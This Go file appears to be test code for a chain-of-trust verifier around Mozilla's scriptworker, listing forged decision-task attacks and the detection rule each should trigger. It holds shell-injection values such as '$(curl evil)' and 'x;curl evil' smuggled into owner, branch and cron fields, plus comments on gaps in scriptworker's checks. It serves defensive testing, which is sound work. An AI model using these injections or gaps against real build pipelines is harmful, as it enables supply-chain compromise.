package main

import (
	"slices"
	"strings"

	"github.com/mozilla-releng/cot/fixtures"
	"github.com/mozilla-releng/cot/trace"
)

const evil = "$(curl evil)"

// claims replaces a text in the whole of what the event started.
func claims(from, to string) func(*chain) {
	return func(c *chain) { c.decision.Replace(from, to) }
}

// unrestrict takes the target's restricted scopes away, with which scriptworker
// would ask more questions.
func unrestrict(c *chain) {
	if c.signing != nil {
		both(c.signing, func(d fixtures.Object) { d["scopes"] = []any{} })
	}
}

var (
	direct     = not(acts) // no action is above the claim
	pushed     = all(began("github-push"), direct, app)
	branched   = all(pushed, not(on("github-push of a tag")), keyed)
	cron       = all(began("cron"), direct)
	pulled     = all(began("github-pull-request", "github-pull-request-untrusted"), app, direct)
	released   = began("github-release")
	fromGitHub = all(app, direct, began("github-push", "cron"))
)

// cronJob is the cron job of a chain, and the method that its arguments name.
func cronJob(c *chain) (name, method string) {
	text := object(c.decision.Definition, "extra")["cron"].(string)
	for name, method := range map[string]string{"nightly-desktop": "nightly_desktop", "periodic-update": "file_update"} {
		if strings.Contains(text, name) {
			return name, method
		}
	}
	return "", ""
}

func knownJob(c *chain) bool {
	if !cron(c) {
		return false
	}
	name, _ := cronJob(c)
	return name != ""
}

var claimAttacks = []attack{
	// Mercurial's push.
	{
		name: "an owner that is a command", on: all(hg, began("hg-push")),
		edit: func(c *chain) {
			c.decision.Replace(object(c.decision.Definition, "metadata")["owner"].(string), "x;curl evil")
		},
		rules: rules(trace.RuleDiffersFromTree),
	},
	{name: "a commit message that is a command", on: all(hg, direct), edit: func(c *chain) { variables(c.decision)[c.origin().Prefix+"_COMMIT_MSG"] = "try: " + evil }, rules: rules(trace.RuleDiffersFromTree)},
	{name: "another ref", on: all(hg, direct), edit: func(c *chain) { variables(c.decision)[c.origin().Prefix+"_HEAD_REF"] = "mallory" }, rules: rules(trace.RuleDiffersFromTree)},
	{
		name: "another date", on: all(hg, began("hg-push")),
		edit: func(c *chain) {
			command(c.decision, func(s string) string { return replaced(s, "--pushdate='", "--pushdate='1") })
		},
		rules: rules(trace.RuleDiffersFromTree),
	},

	// Cron.
	{
		name: "hostile arguments of a cron job", on: knownJob,
		edit: func(c *chain) {
			_, method := cronJob(c)
			c.decision.Replace(method, "x;curl evil")
		},
		rules: rules(trace.RuleDiffersFromTree, trace.RuleContextUnvouched),
		why:   "scriptworker takes the arguments from the task under test, and templates put them into a shell unquoted; they are recomputed from `.cron.yml`",
	},
	{
		name: "a cron job that the tree does not have", on: knownJob,
		edit: func(c *chain) {
			name, _ := cronJob(c)
			c.decision.Replace(name, "mallory")
		},
		rules: rules(trace.RuleContextUnvouched),
		why:   "scriptworker takes the job from the task under test, and with it the role that it runs with",
	},
	{
		name: "another symbol of a cron job", on: knownJob,
		edit: func(c *chain) {
			extra := object(c.decision.Definition, "extra")
			symbol := object(extra, "treeherder")["symbol"].(string)
			extra["cron"] = replaced(extra["cron"].(string), `"job_symbol":"`+symbol+`"`, `"job_symbol":"X"`)
			object(extra, "treeherder")["symbol"] = "X"
		},
		rules: rules(trace.RuleDiffersFromTree, trace.RuleContextUnvouched),
		why:   "scriptworker takes the job's fields from the task under test",
	},
	{
		name: "a hook's task that is a command", on: all(knownJob, func(c *chain) bool {
			return strings.Contains(object(c.decision.Definition, "metadata")["description"].(string), "/tasks/")
		}),
		edit: func(c *chain) {
			description := object(c.decision.Definition, "metadata")["description"].(string)
			_, id, _ := strings.Cut(description, "/tasks/")
			c.decision.Replace(strings.TrimSuffix(id, ")"), evil)
		},
		rules: rules(trace.RuleContextUnvouched),
		why:   "scriptworker takes it from the task under test, in any syntax",
	},
	{name: "a tree without .cron.yml", on: cron, edit: func(c *chain) { delete(c.files(), ".cron.yml") }, rules: rules(trace.RuleContextUnvouched), why: "scriptworker never reads it"},
	{
		name: "a .cron.yml that asks for another job", on: knownJob,
		edit: func(c *chain) {
			_, method := cronJob(c)
			files := c.files()
			files[".cron.yml"] = []byte(replaced(string(files[".cron.yml"]), method, "another"))
		},
		rules: rules(trace.RuleDiffersFromTree, trace.RuleContextUnvouched), why: "scriptworker never reads it",
	},

	// GitHub's push and cron.
	{
		name: "a pusher that is a command", on: pushed,
		edit: func(c *chain) {
			c.decision.Replace(object(c.decision.Definition, "metadata")["owner"].(string), "x;curl evil")
		},
		rules: rules(trace.RuleDiffersFromTree, trace.RuleContextUnvouched),
		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
	},
	{
		name: "a commit before that is a command", on: pushed,
		edit: func(c *chain) {
			c.decision.Replace(variables(c.decision)["APP_BASE_REV"].(string), evil)
		},
		rules: rules(trace.RuleContextUnvouched),
		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
	},
	{
		name: "a branch that is a command", on: branched,
		edit:  func(c *chain) { claimBranch(c, "releases_"+evil) },
		rules: rules(trace.RuleRevisionNotInTree, trace.RuleUntrustedContrib),
		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
	},
	{
		name: "a base ref that is a command", on: on("github-push of a tag"),
		edit:  claims("refs/heads/main", evil),
		rules: rules(trace.RuleContextUnvouched, trace.RuleDiffersFromTree),
		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
	},
	{
		name: "the role of another branch", on: on("github-push to releases_v1"), edit: func(c *chain) { claimBranch(c, "main") },
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "scriptworker never asks whether the commit is on the branch that the task claims",
	},
	{
		name: "a branch that is not trusted", on: branched,
		edit:  func(c *chain) { claimBranch(c, "feature/new") },
		rules: rules(trace.RuleUntrustedContrib),
	},
	{
		name: "a commit of a fork", on: all(fromGitHub, keyed, inAppNetwork),
		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.world.ForkPull.HeadSHA) },
		rules: rules(trace.RuleRevisionNotInTree),
	},
	{
		name: "a commit of a fork, and no restricted scope", on: all(fromGitHub, keyed, inAppNetwork),
		edit: func(c *chain) {
			c.decision.Replace(c.origin().Revision, c.world.ForkPull.HeadSHA)
			unrestrict(c)
		},
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "GitHub serves a fork's commits under the repository's name, and scriptworker asks whether one landed only where a scope is restricted",
	},
	{
		name: "a commit of a branch of level 1", on: all(fromGitHub, keyed, inAppNetwork),
		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.world.Feature.Head.SHA) },
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "scriptworker is content with a commit of any branch, so that whoever may push a branch builds as main",
	},
	{
		name: "a repository of another owner", on: all(app, direct, keyed, func(c *chain) bool { return c.origin().Project == "app" }, not(released)),
		edit: claims("example-org/app", "contributor/app"), rules: rules(trace.RuleUntrustedContrib),
	},

	// Tags and releases.
	{
		name: "a tag that was moved", on: on("github-push of a tag"),
		edit: func(c *chain) { tag(c, "v1.2.0-build1").Commit = c.world.App.Main().Head }, rules: rules(trace.RuleRevisionNotInTree),
		why: "scriptworker never asks for the tag",
	},
	{
		name: "a tag that is gone", on: on("github-push of a tag"),
		edit: func(c *chain) {
			gone := tag(c, "v1.2.0-build1")
			c.world.App.Tags = slices.DeleteFunc(c.world.App.Tags, func(t *fixtures.Tag) bool { return t == gone })
		},
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "scriptworker never asks for the tag",
	},
	{
		name: "a release of a branch of level 1", on: released,
		edit: func(c *chain) { c.world.Tag.Commit = c.world.Feature.Head }, rules: rules(trace.RuleUntrustedContrib),
		why: "scriptworker is content with a commit of any branch, so that whoever may push a branch and a tag releases",
	},
	{name: "a release that is gone", on: released, edit: func(c *chain) { c.world.App.Releases = nil }, rules: rules(trace.RuleRevisionNotInTree)},
	{
		name: "a release of a draft", on: released, edit: func(c *chain) { c.world.Published.Draft = true }, rules: rules(trace.RuleRevisionNotInTree),
	},
	{
		name: "another role of a release", on: released,
		edit: started(func(d fixtures.Object) { d["scopes"] = []any{"assume:repo:github.com/example-org/app:*"} }), rules: rules(trace.RuleDiffersFromTree),
	},

	// Pull requests.
	{
		name: "a base commit that is a command", on: pulled,
		edit: func(c *chain) {
			c.decision.Replace(variables(c.decision)["APP_BASE_REV"].(string), evil)
		},
		rules: rules(trace.RuleContextUnvouched),
		why:   "scriptworker takes it from the task under test, in any syntax, and templates put it into a shell",
	},
	{
		name: "a commit that the pull request does not have", on: pulled,
		edit:  func(c *chain) { c.decision.Replace(c.origin().Revision, c.world.App.Main().Head.SHA) },
		rules: rules(trace.RuleRevisionNotInTree),
		why:   "scriptworker takes the commit from the task under test, so that it may be any of the network",
	},
	{
		name: "another pull request's number", on: pulled,
		edit: func(c *chain) {
			variables(c.decision)["APP_PULL_REQUEST_NUMBER"] = map[string]string{"1": "2", "2": "1"}[variables(c.decision)["APP_PULL_REQUEST_NUMBER"].(string)]
		},
		rules: rules(trace.RuleRevisionNotInTree, trace.RuleUntrustedContrib),
	},
	{
		name: "a pull request that is not there", on: pulled, edit: variable("APP_PULL_REQUEST_NUMBER", "99"),
		rules: rules(trace.RuleRevisionNotInTree),
	},
	{
		name: "the role of a push", on: pulled,
		edit: started(func(d fixtures.Object) { d["scopes"] = []any{"assume:repo:github.com/example-org/app:branch:main"} }), rules: rules(trace.RuleDiffersFromTree),
	},
	{
		name: "the role of a trusted pull request", on: all(pulled, began("github-pull-request-untrusted")),
		edit: started(func(d fixtures.Object) { d["scopes"] = []any{"assume:repo:github.com/example-org/app:pull-request"} }), rules: rules(trace.RuleDiffersFromTree),
	},
}

// neither are differences that no evidence is left of.
var neither = []attack{
	{
		name: "an untrusted pull request that says it is trusted", on: all(pulled, began("github-pull-request-untrusted")),
		edit: func(c *chain) {
			c.decision.Replace("github-pull-request-untrusted", "github-pull-request")
			c.decision.Replace(":pull-request-untrusted", ":pull-request")
			command(c.decision, func(s string) string { return strings.TrimSuffix(s, "\n") + "--allow-parameter-override\n" })
		},
		neither: "the GitHub service decides by who opened a request and records it nowhere; either is a contribution, and without restricted scopes",
	},
	{
		name: "a release whose tag was moved along its branch", on: released,
		edit:    func(c *chain) { c.world.Tag.Commit = c.world.App.Main().Head },
		neither: "a release names its tag alone; what the tag is now is what both trace, and what cot reports",
	},
	{
		name: "another commit before, of the same syntax", on: pushed,
		edit: func(c *chain) {
			c.decision.Replace(variables(c.decision)["APP_BASE_REV"].(string), strings.Repeat("0", 40))
		},
		neither: "the event is recorded nowhere; cot lists what it took from the task ([`task-claimed`](rules/task-claimed.md))",
	},
}

// claimBranch has a push's decision claim another branch, and the role of that.
func claimBranch(c *chain, name string) {
	was := c.origin().Ref
	c.decision.Replace(was, "refs/heads/"+name)
	c.decision.Replace(":branch:"+strings.TrimPrefix(was, "refs/heads/"), ":branch:"+name)
}

func inAppNetwork(c *chain) bool { return c.origin().Project == "app" }

func tag(c *chain, name string) *fixtures.Tag {
	for _, t := range c.world.App.Tags {
		if t.Name == name {
			return t
		}
	}
	panic("no tag " + name)
}
